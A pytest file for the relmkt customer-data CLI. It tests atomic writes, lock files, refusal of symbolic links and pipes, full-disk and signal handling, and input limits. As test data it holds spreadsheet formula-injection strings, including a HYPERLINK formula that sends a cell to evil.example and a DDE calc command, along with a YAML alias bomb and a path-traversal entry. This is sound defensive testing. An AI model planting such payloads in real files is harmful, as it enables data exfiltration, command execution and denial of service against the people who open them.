"""Never lose or overwrite what is not ours (issue 23): import, summarize, validate and the core helpers.

The batch's cases (output folders, run folders, the index, kill -9) are in test_pipeline_safety.py.
The classes of the issue: 1 an output replaces its input or a user's file; 2 writes follow symbolic
links; 4 interrupted or concurrent writes leave something that looks good; 5 spreadsheet formula
injection; 6 unbounded inputs; 7 tracebacks instead of one sentence. Every case runs the real
``relmkt`` command (or the function it calls) on real files: named pipes, symbolic links, a
file-size limit (RLIMIT_FSIZE, how a full disk fails a write), a read-only tmpfs, signals.
"""
from __future__ import annotations

import csv
import io
import json
import os
import resource
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from relmkt_utils.core.bounded_yaml import YAMLLimitError, load_yaml
from relmkt_utils.core.csv_safety import FORMULA_START, neutralize, neutralize_csv, neutralize_frame
from relmkt_utils.core.files import (PathError, PathLock, atomic_output, atomic_write, detect_encoding, exchange,
                                     open_regular, output_lock, read_regular, rename_noreplace)
from relmkt_utils.data import datasets

ROOT = Path(__file__).resolve().parent.parent
CORPUS = Path(__file__).resolve().parent / "datasets"
HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
               "\tTAB", "\rCR", "plain", "-12.5"]


def relmkt(*args, timeout=180, **kw):
    return subprocess.run([sys.executable, "-m", "relmkt_utils", *map(str, args)], capture_output=True, text=True,
                          timeout=timeout, **kw)


def one_sentence(res) -> str:
    """The CLI's message on a user mistake: exit 2, no traceback, one ``relmkt:`` line."""
    assert res.returncode == 2, res.stdout + res.stderr
    assert "Traceback" not in res.stderr and "Traceback" not in res.stdout
    lines = [line for line in res.stderr.splitlines() if line.startswith("relmkt:")]
    assert len(lines) == 1, res.stderr
    return lines[0]


def limit_file_size(limit: int):
    def apply():
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
    return apply


def orders(path: Path, ids=None, n: int = 60, seed: int = 1) -> Path:
    """A small export: customer, day, amount."""
    rng = np.random.default_rng(seed)
    ids = ids or [f"c{i}" for i in range(12)]
    frame = pd.DataFrame({"cust": rng.choice(ids, n), "day": (np.datetime64("2024-01-01") + rng.integers(0, 200, n)).astype(str),
                          "amount": rng.integers(1, 90, n).astype(float)})
    frame.to_csv(path, index=False)
    return path


IMPORT = ("--customer-col", "cust", "--date-col", "day", "--amount-col", "amount")


# ============================================================================================ core

def test_atomic_write_keeps_the_old_file_on_failure_and_leaves_no_temporary_file(tmp_path):
    target = tmp_path / "report.html"
    target.write_text("the last good report")
    with pytest.raises(RuntimeError):
        with atomic_output(target) as tmp:
            Path(tmp).write_text("half a rep")
            raise RuntimeError("the writer died")
    assert target.read_text() == "the last good report" and sorted(p.name for p in tmp_path.iterdir()) == ["report.html"]
    with pytest.raises(PathError, match="lone surrogate"):
        atomic_write(target, "caf\udce9")
    assert target.read_text() == "the last good report"
    atomic_write(target, "new")
    assert target.read_text() == "new" and oct(target.stat().st_mode & 0o777) == "0o644"


def test_atomic_write_refuses_a_symbolic_link_and_a_folder(tmp_path):
    victim = tmp_path / "victim"
    victim.write_text("precious")
    (tmp_path / "out.json").symlink_to(victim)
    (tmp_path / "dangling.json").symlink_to(tmp_path / "nowhere")
    for name in ("out.json", "dangling.json"):
        with pytest.raises(PathError, match="is a symbolic link"):
            atomic_write(tmp_path / name, "{}")
    (tmp_path / "folder").mkdir()
    with pytest.raises(PathError, match="it is a folder"):
        atomic_write(tmp_path / "folder", "x")
    assert victim.read_text() == "precious" and not (tmp_path / "nowhere").exists()


def test_a_full_disk_is_a_sentence_and_keeps_the_old_file(tmp_path):
    target = tmp_path / "index.json"
    target.write_text("old and complete\n")
    code = ("from relmkt_utils.core.files import atomic_write\n"
            f"atomic_write({str(target)!r}, 'x' * 100_000)\n")
    res = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, preexec_fn=limit_file_size(8_000),
                         timeout=60, env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert res.returncode == 1 and "file-size limit" in res.stderr and "nothing was replaced" in res.stderr
    assert target.read_text() == "old and complete\n" and sorted(p.name for p in tmp_path.iterdir()) == ["index.json"]


def test_only_regular_files_are_read_and_a_named_pipe_never_blocks(tmp_path):
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "zero").symlink_to("/dev/zero")            # would never end
    (tmp_path / "dir").mkdir()
    t0 = time.monotonic()
    for name, kind in (("pipe", "named pipe"), ("zero", "character device"), ("dir", "folder")):
        with pytest.raises(PathError, match=kind):
            read_regular(tmp_path / name)
    assert time.monotonic() - t0 < 2
    (tmp_path / "big").write_bytes(b"x" * 1001)
    with pytest.raises(PathError, match="larger than 1,000 bytes"):
        read_regular(tmp_path / "big", limit=1000)
    (tmp_path / "link").symlink_to(tmp_path / "big")       # a link to a regular input is fine
    with open_regular(tmp_path / "link") as fh:
        assert len(fh.read()) == 1001


def test_a_lock_is_exclusive_refuses_a_link_and_removes_its_file(tmp_path):
    target = tmp_path / "out.parquet"
    with output_lock(target, "summarize"):
        with pytest.raises(PathError, match=rf"another relmkt summarize is writing .*out.parquet \(pid {os.getpid()}"):
            with output_lock(target, "summarize"):
                pass
    assert not (tmp_path / ".out.parquet.relmkt-lock").exists()
    victim = tmp_path / "victim"
    victim.write_text("do not truncate me")
    (tmp_path / "x.lock").symlink_to(victim)
    with pytest.raises(PathError, match="symbolic link"):
        with PathLock(tmp_path / "x.lock", lambda h: h):
            pass
    assert victim.read_text() == "do not truncate me"


def test_folders_are_renamed_without_replacing_and_swapped_in_one_step(tmp_path):
    (tmp_path / "a").mkdir()
    (tmp_path / "a" / "f").write_text("a")
    (tmp_path / "b").mkdir()                                # an empty folder a plain rename would replace
    with pytest.raises(FileExistsError):
        rename_noreplace(tmp_path / "a", tmp_path / "b")
    (tmp_path / "b" / "f").write_text("b")
    exchange(tmp_path / "a", tmp_path / "b")
    assert (tmp_path / "a" / "f").read_text() == "b" and (tmp_path / "b" / "f").read_text() == "a"


def _laughs(levels: int = 9) -> str:
    text = "l0: &l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n"
    return text + "".join(f"l{i}: &l{i} [" + ", ".join([f"*l{i - 1}"] * 9) + "]\n" for i in range(1, levels + 1))


def test_yaml_bombs_are_refused_in_milliseconds_and_ordinary_anchors_still_work():
    t0 = time.monotonic()
    for doc, words in ((_laughs(), "expands to more than"), ("a: &a [x, *a]", "refers to itself"),
                       ("[" * 20_000 + "]" * 20_000, "nested too deeply"), ("x" * 100, "larger than 50 bytes")):
        with pytest.raises(YAMLLimitError, match=words):
            load_yaml(doc, max_bytes=50 if words.startswith("larger") else 10**7)
    assert time.monotonic() - t0 < 2
    assert load_yaml(_laughs(3))["l3"][0][0][0][0] == "lol"             # 9^4 values: within bounds
    doc = load_yaml("common: &c {dataset: synthetic}\nruns:\n  - {<<: *c, name: a}\n  - {<<: *c, name: b}\n")
    assert doc["runs"] == [{"dataset": "synthetic", "name": "a"}, {"dataset": "synthetic", "name": "b"}]


@pytest.mark.parametrize("raw, name", [
    (b"\xef\xbb\xbfa,b", "UTF-8"), (b"\xff\xfea\x00,\x00", "UTF-16"), (b"\xfe\xff\x00a\x00,", "UTF-16"),
    (b"\xff\xfe\x00\x00a\x00\x00\x00", "UTF-32"), ("customer,date\nc1,2024\n".encode("utf-16-le"), "UTF-16 (little"),
    ("customer,date\nc1,2024\n".encode("utf-16-be"), "UTF-16 (big"), (b"plain,ascii\n", None),
    ("café,ü\n".encode("cp1252"), None)])
def test_encodings_are_recognized(raw, name):
    found = detect_encoding(raw)
    assert (found is None) if name is None else found[1].startswith(name)


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("=+-@\t\r'0123456789.eE ,\"aZ|!(/") + ["\n", "é"]), max_size=12))
def test_neutralized_cells_are_never_formulas_and_only_gain_a_leading_quote(text):
    safe = neutralize(text)
    assert neutralize(safe) == safe                                      # idempotent
    assert safe == text or safe == "'" + text
    if safe and safe[0] in FORMULA_START:                                # only a plain number may start so
        float(safe)


def test_a_frame_and_a_csv_file_are_neutralized_cell_by_cell(tmp_path):
    frame = pd.DataFrame({"customer_id": HOSTILE_IDS, "amount": [-1.5, 2, 3, 4, 5, 6, 7, 8],
                          "=label": ["-x", None, 1, "ok", "@me", "+1", "+1 555", ""]}).set_index("customer_id")
    safe, changed = neutralize_frame(frame)
    assert changed == 6 + 1 + 3                                          # ids, the column name, three cells
    assert list(safe.index) == ["'" + i if i not in ("plain", "-12.5") else i for i in HOSTILE_IDS]
    assert list(safe["amount"]) == [-1.5, 2, 3, 4, 5, 6, 7, 8] and list(safe.columns) == ["amount", "'=label"]
    assert list(frame.index) == HOSTILE_IDS                              # the input is not changed
    raw = tmp_path / "raw.csv"
    frame.to_csv(raw, lineterminator="\r\n")                        # so that the CR inside a cell is quoted
    n = neutralize_csv(raw, tmp_path / "safe.csv")
    cells = [c for row in csv.reader(io.StringIO((tmp_path / "safe.csv").read_text(), newline="")) for c in row]
    assert n == changed and not [c for c in cells if c and c[0] in FORMULA_START and c not in ("-1.5", "+1", "-12.5")]


def test_save_table_writes_formula_ids_as_text_atomically(tmp_path, monkeypatch):
    from relmkt_utils.pipeline.record import save_table

    monkeypatch.setenv("RELMKT_METRICS", str(tmp_path / "metrics.json"))
    scores = pd.DataFrame({"customer_id": HOSTILE_IDS, "clv": np.arange(8) - 2.5}).set_index("customer_id")
    assert save_table("customer_scores", scores) == "customer_scores.csv"
    back = pd.read_csv(tmp_path / "customer_scores.csv", dtype={"customer_id": str}, keep_default_na=False)
    assert back["customer_id"].iloc[:6].str.startswith("'").all() and back["clv"].tolist() == list(np.arange(8) - 2.5)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["customer_scores.csv"]


# ============================================================================================ import

def test_import_of_formula_ids_writes_them_as_text_in_every_table(tmp_path):
    src = orders(tmp_path / "orders.csv", ids=HOSTILE_IDS)
    res = relmkt("import", src, "--out", tmp_path / "shop", *IMPORT)
    assert res.returncode == 0, res.stderr
    assert "cells began with =, +, -, @, a tab or a carriage return" in res.stdout
    for table in ("customers.csv", "transactions.csv"):
        cells = [c for row in csv.reader(open(tmp_path / "shop" / table, newline="")) for c in row]
        assert not [c for c in cells if c and c[0] in FORMULA_START and c != "-12.5"], table
    ds = datasets.load(tmp_path / "shop")                                # the ids still match across tables
    assert set(ds.transactions["customer_id"]) <= set(ds.customers["customer_id"])
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in set(ds.customers["customer_id"])


def test_import_never_writes_over_its_source_or_through_a_link(tmp_path):
    src = orders(tmp_path / "orders.csv")
    before = src.read_bytes()
    assert "is the source or holds it" in one_sentence(relmkt("import", src, "--out", src, *IMPORT))
    shop = tmp_path / "shop"
    shop.mkdir()
    inside = orders(shop / "export.csv")
    assert "is the source or holds it" in one_sentence(relmkt("import", inside, "--out", shop, *IMPORT))
    (tmp_path / "dangling").symlink_to(tmp_path / "nowhere")
    assert "symbolic link" in one_sentence(relmkt("import", src, "--out", tmp_path / "dangling", *IMPORT))
    (tmp_path / "empty").mkdir()
    (tmp_path / "to_empty").symlink_to(tmp_path / "empty")
    assert "symbolic link" in one_sentence(relmkt("import", src, "--out", tmp_path / "to_empty", *IMPORT))
    assert src.read_bytes() == before and not (tmp_path / "nowhere").exists() and not list((tmp_path / "empty").iterdir())


def test_a_reimport_replaces_an_unchanged_import_whole_but_not_a_changed_one(tmp_path):
    src = orders(tmp_path / "orders.csv")
    assert relmkt("import", src, "--out", tmp_path / "shop", *IMPORT).returncode == 0
    assert (tmp_path / "shop" / ".relmkt-dataset").is_file()
    src2 = orders(tmp_path / "orders2.csv", seed=2)
    assert relmkt("import", src2, "--out", tmp_path / "shop", *IMPORT).returncode == 0
    assert "orders2.csv" in (tmp_path / "shop" / "dataset.yml").read_text()
    (tmp_path / "shop" / "notes.txt").write_text("my notes on the shop")      # a file of the user's beside them
    message = one_sentence(relmkt("import", src, "--out", tmp_path / "shop", *IMPORT))
    assert "it also holds files relmkt did not write (notes.txt)" in message
    assert relmkt("validate", tmp_path / "shop").returncode == 0              # a file added is no change
    (tmp_path / "shop" / "notes.txt").unlink()
    customers = (tmp_path / "shop" / "customers.csv").read_text().splitlines()
    with open(tmp_path / "shop" / "customers.csv", "a") as fh:           # the user edits the dataset
        fh.write("c99," + customers[1].split(",", 1)[1] + "\n")
    message = one_sentence(relmkt("import", src, "--out", tmp_path / "shop", *IMPORT))
    assert "exists and is not empty (an earlier import, but customers.csv has" in message
    assert "c99" in (tmp_path / "shop" / "customers.csv").read_text()
    res = relmkt("validate", tmp_path / "shop")
    assert res.returncode == 2 and "not as relmkt wrote it" in res.stdout and "delete .relmkt-dataset" in res.stdout
    (tmp_path / "shop" / ".relmkt-dataset").unlink()                      # the way out the sentence names
    assert relmkt("validate", tmp_path / "shop").returncode == 0


def test_a_second_import_to_the_same_folder_is_refused_while_one_runs(tmp_path):
    src = orders(tmp_path / "orders.csv")
    out = tmp_path / "shop"
    with output_lock(out, "import"):
        message = one_sentence(relmkt("import", src, "--out", out, *IMPORT))
    assert f"another relmkt import is writing {out} (pid {os.getpid()}" in message and not out.exists()


def _big_export(path: Path, n: int = 40_000) -> Path:
    rng = np.random.default_rng(3)
    pd.DataFrame({"cust": rng.integers(0, 20_000, n).astype(str),
                  "day": (np.datetime64("2024-01-01") + rng.integers(0, 300, n)).astype(str),
                  "amount": rng.integers(1, 100, n).astype(float)}).to_csv(path, index=False)
    return path


@pytest.mark.parametrize("sig, moment", [(signal.SIGTERM, "reading"), (signal.SIGTERM, "writing"),
                                         (signal.SIGKILL, "writing")])
def test_an_interrupted_import_leaves_nothing_that_looks_complete(tmp_path, sig, moment):
    """A signal while the import reads (its lock exists) or writes (its staging folder exists): no folder
    appears at --out. SIGTERM removes everything it staged (exit 143); what kill -9 leaves is hidden,
    called unfinished by validate, and removed by the next import, which succeeds."""
    src = _big_export(tmp_path / "big.csv")
    out = tmp_path / "shop"
    proc = subprocess.Popen([sys.executable, "-m", "relmkt_utils", "import", str(src), "--out", str(out), *IMPORT],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    sign = ".shop.relmkt-lock" if moment == "reading" else ".shop.relmkt-staging-*"
    deadline = time.monotonic() + 240
    while not list(tmp_path.glob(sign)) and proc.poll() is None and time.monotonic() < deadline:
        time.sleep(0.005)
    assert proc.poll() is None, "the import finished before it could be interrupted"
    proc.send_signal(sig)
    _, err = proc.communicate(timeout=120)
    assert not out.exists() and "Traceback" not in err
    leftovers = [p for p in tmp_path.iterdir() if p.name.startswith(".shop.")]
    if sig == signal.SIGTERM:
        assert proc.returncode == 143 and "nothing half-written" in err and leftovers == []
        return
    staged = [p for p in leftovers if p.is_dir() and (p / ".relmkt-dataset").exists()]
    for left in staged:
        res = relmkt("validate", left)
        assert res.returncode == 2 and "stopped before it finished" in res.stdout
    assert relmkt("import", src, "--out", out, *IMPORT, timeout=300).returncode == 0
    assert [p for p in tmp_path.iterdir() if p.name.startswith(".shop.")] == []
    assert relmkt("validate", out).returncode == 0


def test_a_full_disk_during_an_import_is_one_sentence_and_leaves_nothing(tmp_path):
    src = orders(tmp_path / "orders.csv", n=3000)
    res = relmkt("import", src, "--out", tmp_path / "shop", *IMPORT, preexec_fn=limit_file_size(20_000))
    assert "file-size limit" in one_sentence(res)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["orders.csv"]


@pytest.mark.skipif(shutil.which("unshare") is None, reason="needs unshare")
def test_a_read_only_file_system_is_one_sentence(tmp_path):
    src = orders(tmp_path / "orders.csv")
    (tmp_path / "ro").mkdir()
    script = (f"mount -t tmpfs -o ro,size=1m tmpfs {tmp_path / 'ro'} && {sys.executable} -m relmkt_utils import "
              f"{src} --out {tmp_path / 'ro' / 'shop'} " + " ".join(IMPORT))
    res = subprocess.run(["unshare", "-rm", "sh", "-c", script], capture_output=True, text=True, timeout=120)
    if res.returncode != 2 and "mount" in res.stderr:
        pytest.skip(f"cannot mount a read-only tmpfs here: {res.stderr.strip()}")
    assert "read-only" in one_sentence(res)


@pytest.mark.parametrize("mapping, words", [
    ("customer_col: [cust, id]\ndate_col: day\namount_col: amount\n", "customer_col must be one column name (text), got list"),
    ("customer_col: {a: 1}\ndate_col: day\namount_col: amount\n", "customer_col must be one column name (text), got dict"),
    ("customer_col: cust\ndate_col: 2024\namount_col: amount\n", "date_col must be one column name (text), got int"),
    ("customer_col: cust\ndate_col: day\namount_col: amount\ndayfirst: perhaps\n", "dayfirst must be true or false"),
    ("customer_col: cust\ndate_col: day\namount_col: amount\nattributes: Country\n", "attributes must be a list of column names"),
    ('customer_col: "c\\udc80"\ndate_col: day\namount_col: amount\n', "contains a lone surrogate"),
    (_laughs() + "customer_col: cust\n", "expands to more than"),
    ("- customer_col\n- date_col\n", "must be a mapping of settings"),
    ("customer_col: [cust\n", "not valid YAML (line"),
])
def test_a_mapping_file_is_checked_setting_by_setting(tmp_path, mapping, words):
    src = orders(tmp_path / "orders.csv")
    (tmp_path / "map.yml").write_text(mapping, encoding="utf-8")
    assert words in one_sentence(relmkt("import", src, "--out", tmp_path / "shop", "--mapping", tmp_path / "map.yml"))
    assert not (tmp_path / "shop").exists()


def test_a_mapping_or_a_source_that_is_a_named_pipe_is_refused(tmp_path):
    os.mkfifo(tmp_path / "map.yml")
    os.mkfifo(tmp_path / "orders.csv")
    assert "named pipe" in one_sentence(relmkt("import", orders(tmp_path / "o.csv"), "--out", tmp_path / "a",
                                               "--mapping", tmp_path / "map.yml", timeout=60))
    assert "named pipe" in one_sentence(relmkt("import", tmp_path / "orders.csv", "--out", tmp_path / "b", *IMPORT,
                                               timeout=60))


@pytest.mark.parametrize("codec, bom, extra, outcome", [
    ("utf-16-le", b"\xff\xfe", [], "read as UTF-16 (byte-order mark)"),
    ("utf-16-be", b"\xfe\xff", [], "read as UTF-16 (byte-order mark)"),
    ("utf-32-le", b"\xff\xfe\x00\x00", [], "read as UTF-32 (byte-order mark)"),
    ("utf-8", b"\xef\xbb\xbf", [], "read as UTF-8 (byte-order mark)"),
    ("utf-16-le", b"", [], "looks like UTF-16 (little-endian, without a byte-order mark): give the encoding"),
    ("utf-16-le", b"", ["--encoding", "utf-16-le"], "read as utf-16-le"),
    ("utf-16-le", b"\xff\xfe", ["--encoding", "cp1252"], "begins with a UTF-16 byte-order mark, but the encoding given"),
    ("utf-8", b"", ["--encoding", "klingon"], "is not one Python knows"),
])
def test_a_utf16_export_is_read_or_named_never_a_column_of_spaced_letters(tmp_path, codec, bom, extra, outcome):
    text = orders(tmp_path / "plain.csv").read_text().replace("cust", "Customer")
    (tmp_path / "export.csv").write_bytes(bom + text.encode(codec))
    res = relmkt("import", tmp_path / "export.csv", "--out", tmp_path / "shop", "--customer-col", "Customer",
                 "--date-col", "day", "--amount-col", "amount", *extra)
    if outcome.startswith("read as"):
        assert res.returncode == 0 and f"note: {outcome}" in res.stdout, res.stderr
    else:
        message = one_sentence(res)
        assert outcome in message and "ÿþ" not in message and "C u s" not in message


# ============================================================================================ summarize

@pytest.fixture
def log(tmp_path):
    path = tmp_path / "orders.csv"
    pd.DataFrame({"customer_id": ["=1+1", "a", "a", "+b", "@c", "c"],
                  "date": ["2024-01-02", "2024-01-03", "2024-02-10", "2024-01-05", "2024-01-07", "2024-03-01"],
                  "amount": [10.0, 5.0, 7.0, 3.0, 2.0, 9.0]}).to_csv(path, index=False)
    return path


@pytest.mark.parametrize("engine", ["duckdb", "pandas"])
def test_summarize_never_writes_over_its_input_or_a_users_file(tmp_path, log, engine):
    before = log.read_bytes()
    assert "is one of the inputs" in one_sentence(relmkt("summarize", log, "--out", log, "--engine", engine))
    assert log.read_bytes() == before
    budget = tmp_path / "budget.csv"
    budget.write_text("my budget\n")
    assert "was not written by relmkt summarize" in one_sentence(relmkt("summarize", log, "--out", budget,
                                                                        "--engine", engine))
    assert budget.read_text() == "my budget\n"
    res = relmkt("summarize", log, "--out", budget, "--engine", engine, "--force")
    assert res.returncode == 0 and f"--force: replacing {budget}" in res.stderr
    assert relmkt("summarize", log, "--out", budget, "--engine", engine).returncode == 0   # relmkt's now: no --force
    assert relmkt("validate", budget).stdout.strip() == f"{budget}: valid"


@pytest.mark.parametrize("engine", ["duckdb", "pandas"])
def test_a_summary_csv_writes_formula_ids_as_text(tmp_path, log, engine):
    res = relmkt("summarize", log, "--out", tmp_path / "rfm.csv", "--engine", engine, "--freq", "D")
    assert res.returncode == 0, res.stderr
    back = pd.read_csv(tmp_path / "rfm.csv", dtype={"customer_id": str})
    assert sorted(back["customer_id"]) == ["'+b", "'=1+1", "'@c", "a", "c"]
    assert (back["frequency"] >= 0).all()


def test_summarize_refuses_outputs_it_would_read_next_time_and_links(tmp_path, log):
    logs = tmp_path / "logs"
    logs.mkdir()
    shutil.copy(log, logs / "part-0.csv")
    assert "inside the input folder" in one_sentence(relmkt("summarize", logs, "--out", logs / "rfm.parquet"))
    assert "matches the input pattern" in one_sentence(relmkt("summarize", f"{logs}/*.csv", "--out", logs / "rfm.csv"))
    victim = tmp_path / "victim.parquet"
    victim.write_bytes(b"precious")
    (tmp_path / "link.parquet").symlink_to(victim)
    (tmp_path / "dangling.parquet").symlink_to(tmp_path / "nowhere.parquet")
    for name in ("link.parquet", "dangling.parquet"):
        assert "symbolic link" in one_sentence(relmkt("summarize", log, "--out", tmp_path / name))
    assert victim.read_bytes() == b"precious" and not (tmp_path / "nowhere.parquet").exists()
    assert sorted(p.name for p in logs.iterdir()) == ["part-0.csv"]


def test_a_summary_is_published_with_its_record_and_validate_checks_it(tmp_path, log):
    out = tmp_path / "rfm.parquet"
    assert relmkt("summarize", log, "--out", out).returncode == 0
    record = json.loads((tmp_path / "rfm.parquet.relmkt.json").read_text())
    assert record["complete"] is True and record["files"]["rfm.parquet"]["bytes"] == out.stat().st_size
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]          # no temporary file, no lock left
    with open(out, "r+b") as fh:                                                   # truncated, as by a full disk
        fh.truncate(out.stat().st_size // 2)
    res = relmkt("validate", out)
    assert res.returncode == 2 and "incomplete or was changed since relmkt wrote it" in res.stdout
    (tmp_path / "rfm.parquet.relmkt.json").write_text(json.dumps({**record, "complete": False}))
    res = relmkt("validate", out)
    assert res.returncode == 2 and "was stopped before it finished" in res.stdout
    assert relmkt("summarize", log, "--out", out).returncode == 0                  # an unfinished one is relmkt's
    assert relmkt("validate", out).returncode == 0
    with output_lock(out, "summarize"):
        assert "another relmkt summarize is writing" in one_sentence(relmkt("summarize", log, "--out", out))


def test_a_full_disk_during_summarize_keeps_the_previous_summary(tmp_path):
    rng = np.random.default_rng(5)
    n = 20_000
    pd.DataFrame({"customer_id": rng.integers(0, 5000, n).astype(str),
                  "date": (np.datetime64("2024-01-01") + rng.integers(0, 300, n)).astype(str),
                  "amount": rng.integers(1, 50, n).astype(float)}).to_csv(tmp_path / "log.csv", index=False)
    out = tmp_path / "rfm.csv"
    assert relmkt("summarize", tmp_path / "log.csv", "--out", out, "--engine", "pandas").returncode == 0
    before = out.read_bytes()
    res = relmkt("summarize", tmp_path / "log.csv", "--out", out, "--engine", "pandas", "--freq", "D",
                 preexec_fn=limit_file_size(len(before) // 2))
    assert "file-size limit" in one_sentence(res) or "cannot write" in one_sentence(res)
    assert out.read_bytes() == before and relmkt("validate", out).returncode == 0
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]


# ============================================================================================ validate

def _valid(tmp_path, name="ds") -> Path:
    folder = tmp_path / name
    shutil.copytree(CORPUS / "valid", folder)
    return folder


@pytest.mark.parametrize("where, kind", [("survey.csv", "fifo"), ("dataset.yml", "fifo"), ("transactions.parquet", "fifo"),
                                         ("spend.csv", "zero"), ("notes.csv", "fifo")])
def test_a_table_that_is_a_named_pipe_or_a_device_does_not_hang_validate(tmp_path, where, kind):
    folder = _valid(tmp_path)
    if where == "transactions.parquet":
        (folder / "transactions.csv").unlink()
    if where == "notes.csv":
        with open(folder / "dataset.yml", "a") as fh:
            fh.write("extras:\n  notes: notes per customer\n")
    (folder / where).unlink(missing_ok=True)
    os.mkfifo(folder / where) if kind == "fifo" else (folder / where).symlink_to("/dev/zero")
    t0 = time.monotonic()
    res = relmkt("validate", folder, timeout=60)
    assert res.returncode == 2 and time.monotonic() - t0 < 30 and "Traceback" not in res.stderr
    assert ("named pipe (FIFO)" if kind == "fifo" else "character device") in res.stdout and where in res.stdout


def test_an_alias_bomb_in_dataset_yml_is_refused_in_a_moment(tmp_path):
    folder = _valid(tmp_path)
    with open(folder / "dataset.yml", "a") as fh:
        fh.write("truth:\n" + "".join("  " + line + "\n" for line in _laughs().splitlines()))
    t0 = time.monotonic()
    res = relmkt("validate", folder, timeout=60)
    assert res.returncode == 2 and "expands to more than 100,000 values" in res.stdout and time.monotonic() - t0 < 20


def test_a_dataset_yml_larger_than_a_megabyte_is_refused(tmp_path):
    folder = _valid(tmp_path)
    (folder / "dataset.yml").write_text((folder / "dataset.yml").read_text().replace(
        "description: Six", "description: " + "x" * 1_100_000 + " Six"))
    problems = datasets.validate(folder)
    assert [p.code for p in problems] == ["yaml_limit"] and "larger than 1,000,000 bytes" in problems[0].detail


def test_transactions_path_may_not_crawl_the_file_system(tmp_path):
    folder = _valid(tmp_path)
    (folder / "transactions.csv").unlink()
    with open(folder / "dataset.yml", "a") as fh:
        fh.write("transactions_path: '/**/*.parquet'\n")
    t0 = time.monotonic()
    problems = datasets.validate(folder)
    assert time.monotonic() - t0 < 5 and [p.code for p in problems] == ["transactions_path"]
    assert "it leaves the dataset folder" in problems[0].detail


def test_extras_cannot_read_a_file_outside_the_dataset_folder(tmp_path):
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "salaries.csv").write_text("name,salary\nboss,1000000\n")
    folder = _valid(tmp_path / "data" / "x", "shop")
    with open(folder / "dataset.yml", "a") as fh:
        fh.write("extras:\n  ../../../secret/salaries: what the boss earns\n")
    with pytest.raises(Exception) as info:
        datasets.load(folder)
    assert [p.code for p in info.value.problems] == ["yaml_extras_name"] and "salary" not in str(info.value)


def test_an_undecodable_name_on_the_command_line_is_printed_not_a_traceback():
    res = relmkt("validate", "no_such\udce9")
    assert res.returncode == 2 and "Traceback" not in res.stderr and "no such dataset" in res.stdout
